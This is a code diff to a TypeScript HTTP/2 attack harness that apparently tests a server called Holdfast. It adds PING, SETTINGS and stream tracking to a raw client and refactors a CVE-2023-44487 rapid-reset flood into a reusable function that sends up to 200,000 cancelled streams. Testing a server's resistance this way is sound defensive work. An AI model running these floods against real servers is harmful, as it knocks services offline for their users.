@@ -9,6 +9,7 @@
 import { connect as netConnect, type Socket } from 'node:net';
 import { connect as http2Connect } from 'node:http2';
 import { performance } from 'node:perf_hooks';
+import { pingAckTimeoutMs, sessionReadCheckIntervalMs } from '@holdfast/server';
 import type { Attack, AttackFigures, AttackScale, AttackTarget } from '../attack.js';
 
 export const clientPreface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
@@ -60,16 +61,28 @@ export interface RawHttp2 {
   receivedBytes(): number;
   /** Whether the server ended or reset the connection. */
   serverClosed(): boolean;
-  /** Whether a GOAWAY came, and its error code. */
+  /** performance.now() when the server ended or reset the connection. */
+  closedAtMs(): number | undefined;
+  /** Whether a GOAWAY came, and the error code of the first (a server may send another as it closes). */
   goawayCode(): number | undefined;
   /** Frames of a type counted as they arrive (RST_STREAM, PING ACKs ...). */
   framesOfType(type: number): number;
+  /** The server's SETTINGS parameters (identifier -> value; a later frame's value wins). */
+  settings(): ReadonlyMap<number, number>;
+  /** What the server sent on a stream: HEADERS frames counted, and the RST_STREAM error code if it reset it. */
+  stream(streamId: number): { headersFrames: number; resetCode?: number };
   /**
    * Resolves once the server's first SETTINGS came (and, with ackSettings,
    * was ACKed), as real clients wait before a burst of requests (grpc-go
    * sends nothing before; nghttp2 and Go assume 100 streams at most until then).
    */
   serverSettings(): Promise<void>;
+  /**
+   * Sends a PING and resolves true once its ACK came: the server has read
+   * everything sent before it. False when the connection closed or no ACK
+   * came within `timeoutMs` (a server that stopped reading).
+   */
+  ping(timeoutMs: number): Promise<boolean>;
   /** Writes, waiting for the socket to drain; false once the connection is gone. */
   send(bytes: Buffer): Promise<boolean>;
   close(): void;
@@ -80,19 +93,28 @@ export interface RawHttp2Options {
   readonly read?: boolean;
   /** ACK the server's SETTINGS as a real client does. Default true. */
   readonly ackSettings?: boolean;
+  /** ACK the server's PINGs as a real client does (Holdfast pings quiet sessions). Default: as ackSettings. */
+  readonly ackPings?: boolean;
 }
 
 export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, options: RawHttp2Options = {}): Promise<RawHttp2> {
   const read = options.read ?? true;
   const ackSettings = options.ackSettings ?? true;
+  const ackPings = options.ackPings ?? ackSettings;
   return new Promise((resolve, reject) => {
     const socket = netConnect({ host: target.host, port: target.port, noDelay: true });
     let received = 0;
     let closed = false;
+    let closedAtMs: number | undefined;
     let goaway: number | undefined;
     const counts = new Map<number, number>();
+    const settings = new Map<number, number>();
+    const streams = new Map<number, { headersFrames: number; resetCode?: number }>();
     let pending: Buffer = Buffer.alloc(0);
     let settingsCame: () => void = () => {};
+    /** PINGs of ours waiting for their ACK, by payload (hex). */
+    const pingWaiters = new Map<string, (acked: boolean) => void>();
+    let pingsSent = 0;
     const settingsReceived = new Promise<void>((resolve) => (settingsCame = resolve));
     socket.on('data', (chunk: Buffer) => {
       received += chunk.length;
@@ -105,8 +127,21 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
         const type = pending[offset + 3]!;
         const flags = pending[offset + 4]!;
         counts.set(type, (counts.get(type) ?? 0) + 1);
-        if (type === frameType.goaway && length >= 8) goaway = pending.readUInt32BE(offset + 13);
+        if (type === frameType.goaway && length >= 8) goaway ??= pending.readUInt32BE(offset + 13);
+        const streamId = pending.readUInt32BE(offset + 5) & 0x7fffffff;
+        if (streamId !== 0 && (type === frameType.headers || type === frameType.rstStream)) {
+          const seen = streams.get(streamId) ?? { headersFrames: 0 };
+          if (type === frameType.headers) seen.headersFrames++;
+          else if (length >= 4) seen.resetCode = pending.readUInt32BE(offset + 9);
+          streams.set(streamId, seen);
+        }
+        if (type === frameType.ping && length === 8) {
+          const payload = pending.subarray(offset + 9, offset + 17);
+          if ((flags & 0x1) !== 0) pingWaiters.get(payload.toString('hex'))?.(true);
+          else if (ackPings && !socket.destroyed) socket.write(frame(frameType.ping, 0x1, 0, Buffer.from(payload)));
+        }
         if (type === frameType.settings && (flags & 0x1) === 0) {
+          for (let at = offset + 9; at + 6 <= offset + 9 + length; at += 6) settings.set(pending.readUInt16BE(at), pending.readUInt32BE(at + 2));
           if (ackSettings && !socket.destroyed) socket.write(settingsAck);
           settingsCame();
         }
@@ -116,7 +151,9 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
     });
     if (!read) socket.pause();
     const markClosed = (): void => {
+      if (!closed) closedAtMs = performance.now();
       closed = true;
+      for (const settle of pingWaiters.values()) settle(false);
     };
     socket.once('end', markClosed);
     socket.once('close', markClosed);
@@ -128,9 +165,27 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
         socket,
         receivedBytes: () => received,
         serverClosed: () => closed,
+        closedAtMs: () => closedAtMs,
         goawayCode: () => goaway,
         framesOfType: (type) => counts.get(type) ?? 0,
+        settings: () => settings,
+        stream: (streamId) => ({ ...(streams.get(streamId) ?? { headersFrames: 0 }) }),
         serverSettings: () => Promise.race([settingsReceived, new Promise<void>((resolve) => socket.once('close', () => resolve()))]),
+        ping: (timeoutMs) =>
+          new Promise<boolean>((done) => {
+            if (closed || socket.destroyed) return done(false);
+            const payload = Buffer.alloc(8);
+            payload.writeUInt32BE(++pingsSent, 4);
+            const key = payload.toString('hex');
+            const timer = setTimeout(() => settle(false), timeoutMs);
+            const settle = (acked: boolean): void => {
+              clearTimeout(timer);
+              pingWaiters.delete(key);
+              done(acked);
+            };
+            pingWaiters.set(key, settle);
+            socket.write(frame(frameType.ping, 0, 0, payload));
+          }),
         send: (bytes) =>
           new Promise<boolean>((done) => {
             if (closed || socket.destroyed) return done(false);
@@ -154,7 +209,7 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
 }
 
 /** A RangeRequest for key "k", gRPC-framed. */
-const rangeMessage = Buffer.from([0, 0, 0, 0, 3, 0x0a, 0x01, 0x6b]);
+export const rangeMessage = Buffer.from([0, 0, 0, 0, 3, 0x0a, 0x01, 0x6b]);
 
 /**
  * Another client's view while an attack runs: unary Ranges one after the
@@ -266,9 +321,24 @@ async function prefaceFlood(target: AttackTarget, scale: AttackScale): Promise<A
   return { connections: total, connectFailures: failed, elapsedMs: Math.round(performance.now() - started) };
 }
 
-/** Requests opened and at once cancelled (RST_STREAM CANCEL), CVE-2023-44487. */
-async function rapidReset(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
-  const streams = scale === 'short' ? 5_000 : 200_000;
+/**
+ * How long a server that sent GOAWAY, or stopped reading, is given to close
+ * the connection: Holdfast's bound (a read check, a second one, the PING
+ * ACK's timeout; http2-sessions.ts) with room to spare.
+ */
+export const rapidResetCloseWaitMs = 2 * sessionReadCheckIntervalMs + pingAckTimeoutMs + 10_000;
+/** How long a server is given to read the resets sent (then taken for one that stopped reading). */
+const rapidResetReadWaitMs = 10_000;
+
+/**
+ * Opens `streams` requests on one connection, each cancelled at once
+ * (RST_STREAM CANCEL), CVE-2023-44487; stops early when the server stops
+ * reading (a write waits past the time limit) or closes. Then a PING: if
+ * the server sent GOAWAY or does not ACK it (stopped reading), waits up to
+ * rapidResetCloseWaitMs for it to close the connection
+ * (serverClosedAfterMs: from the end of sending).
+ */
+export async function sendRapidResets(target: AttackTarget, streams: number, timeLimitMs: number): Promise<AttackFigures> {
   const connection = await openRawHttp2(target);
   await connection.serverSettings();
   const started = performance.now();
@@ -276,7 +346,6 @@ async function rapidReset(target: AttackTarget, scale: AttackScale): Promise<Att
   try {
     const rst = Buffer.alloc(4);
     rst.writeUInt32BE(0x8); // CANCEL
-    const timeLimitMs = scale === 'short' ? 10_000 : 60_000;
     let stalled = false;
     for (let id = 1; sentStreams < streams; ) {
       const pieces: Buffer[] = [];
@@ -293,17 +362,28 @@ async function rapidReset(target: AttackTarget, scale: AttackScale): Promise<Att
       }
       sentStreams += batch;
     }
-    await sleep(200);
+    const sendMs = performance.now() - started;
+    // A PING after the resets: its ACK says the server read them all; none says it stopped reading.
+    const readEverything = !stalled && (await connection.ping(rapidResetReadWaitMs));
+    if (!readEverything || connection.goawayCode() !== undefined) {
+      const deadline = performance.now() + rapidResetCloseWaitMs;
+      while (!connection.serverClosed() && performance.now() < deadline) await sleep(50);
+    }
     return {
       streamsReset: sentStreams,
-      serverStoppedReading: stalled,
-      elapsedMs: Math.round(performance.now() - started),
+      serverStoppedReading: !readEverything,
+      elapsedMs: Math.round(sendMs),
       serverClosed: connection.serverClosed(),
+      serverClosedAfterMs: connection.serverClosed() ? Math.round(connection.closedAtMs()! - sendMs - started) : 'never',
       goawayCode: connection.goawayCode() ?? 'none',
     };
   } finally {
     connection.close();
   }
+}
+
+function rapidReset(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
+  return sendRapidResets(target, scale === 'short' ? 5_000 : 200_000, scale === 'short' ? 10_000 : 60_000);
 }
 
 /** `count` copies of one control frame from a client that never reads the answers. */
